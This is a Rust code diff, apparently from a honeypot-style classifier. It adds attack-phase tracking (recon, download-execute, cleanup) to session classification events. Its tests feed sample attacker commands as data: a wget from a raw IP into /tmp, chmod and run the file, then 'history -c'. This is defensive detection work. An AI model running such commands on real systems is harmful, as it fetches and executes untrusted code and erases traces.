@@ -8,7 +8,8 @@
 //! order, also for the line that ends the session; a class, or a confidence that moved to
 //! another tenth, is announced with `source: tree`, the set's version as `rule` and the
 //! confidence. Without one, the R1–R8 rules decide, as counted by the features
-//! (`source: rules`).
+//! (`source: rules`). A change of the session's attack phase ([`SessionFeatures::phase`]) is
+//! announced the same way, with the phase in the event.
 
 use std::panic::{AssertUnwindSafe, catch_unwind};
 use std::sync::Arc;
@@ -21,6 +22,7 @@ use crate::models::classifier::Prediction;
 use crate::models::commands::Command;
 use crate::models::context::Login;
 use crate::models::features::{FEATURES, Protocol, SessionFeatures};
+use crate::models::phases::Phase;
 use crate::models::{Class, Models};
 
 /// Most input lines a session's class is decided from; later lines leave it as it is.
@@ -48,6 +50,8 @@ pub(super) struct Classifier {
     bytes: usize,
     /// The class last announced, with its confidence in tenths (the model's only).
     current: Option<(Class, Option<u8>)>,
+    /// The attack phase last announced.
+    phase: Option<Phase>,
 }
 
 impl Classifier {
@@ -77,6 +81,7 @@ impl Classifier {
             lines: 0,
             bytes: 0,
             current: None,
+            phase: None,
         }
     }
 
@@ -111,29 +116,35 @@ impl Classifier {
         self.features.vector(None)
     }
 
-    /// The rules' class, as an event when it changed.
+    /// The rules' class, as an event when it or the attack phase changed.
     pub(super) fn rules(&mut self) -> Option<EventKind> {
         let class = self.features.rule_class();
-        if self.current.is_some_and(|(before, _)| before == class) {
+        let phase = self.features.phase();
+        if self.current.is_some_and(|(before, _)| before == class) && self.phase == phase {
             return None;
         }
         self.current = Some((class, None));
+        self.phase = phase;
         Some(EventKind::Classification {
             class: class.as_str().to_owned(),
             rule: class.rule().to_owned(),
             source: "rules".to_owned(),
             confidence: None,
+            phase: phase.map(|p| p.as_str().to_owned()),
         })
     }
 
-    /// The model's answer, as an event when the class or its confidence (in tenths) changed.
+    /// The model's answer, as an event when the class, its confidence (in tenths) or the
+    /// attack phase changed.
     pub(super) fn answer(&mut self, prediction: Prediction) -> Option<EventKind> {
         let tenths = (prediction.confidence.clamp(0.0, 1.0) * 10.0).floor() as u8;
         let now = (prediction.class, Some(tenths));
-        if self.current == Some(now) {
+        let phase = self.features.phase();
+        if self.current == Some(now) && self.phase == phase {
             return None;
         }
         self.current = Some(now);
+        self.phase = phase;
         Some(EventKind::Classification {
             class: prediction.class.as_str().to_owned(),
             rule: self
@@ -143,11 +154,17 @@ impl Classifier {
                 .to_owned(),
             source: "tree".to_owned(),
             confidence: Some((prediction.confidence * 1000.0).round() / 1000.0),
+            phase: phase.map(|p| p.as_str().to_owned()),
         })
     }
 }
 
 impl Classifier {
+    /// The class and attack phase last announced (`None` before they are known).
+    pub(super) fn context(&self) -> (Option<Class>, Option<Phase>) {
+        (self.current.map(|(class, _)| class), self.phase)
+    }
+
     /// The trained classifier's class for `features`, or `None` without one.
     fn predict(&self, features: &[f64; FEATURES]) -> Option<Prediction> {
         let classifier = self.models.as_ref()?.classifier.as_ref()?;
@@ -241,6 +258,42 @@ mod tests {
             Some("malware_dropper")
         );
         assert!(c.observe_line(at(4), "chmod +x x.sh; ./x.sh").is_none());
+    }
+
+    #[test]
+    fn a_phase_change_is_announced_with_the_class_unchanged() {
+        let start = Utc::now();
+        let mut c = Classifier::new(start, Arc::default(), &Login::default());
+        let phase_of = |next: Option<Next>| match next {
+            Some(Next::Announce(EventKind::Classification { class, phase, .. })) => {
+                Some((class, phase))
+            }
+            _ => None,
+        };
+        let first = phase_of(c.observe_line(start, "uname -a")).unwrap();
+        assert_eq!(first.1.as_deref(), Some("recon"));
+        let dropped = phase_of(c.observe_line(start, "cd /tmp; wget http://198.51.100.9/x"));
+        assert_eq!(
+            dropped,
+            Some(("malware_dropper".into(), Some("download_execute".into())))
+        );
+        assert!(
+            c.observe_line(start, "chmod +x x; ./x").is_none(),
+            "same phase"
+        );
+        let cleaned = phase_of(c.observe_line(start, "history -c")).unwrap();
+        assert_eq!(
+            cleaned,
+            ("malware_dropper".into(), Some("cleanup".into())),
+            "the class stays, the phase moved on"
+        );
+        assert_eq!(
+            c.context(),
+            (
+                Some(Class::MalwareDropper),
+                Some(crate::models::phases::Phase::Cleanup)
+            )
+        );
     }
 
     #[test]
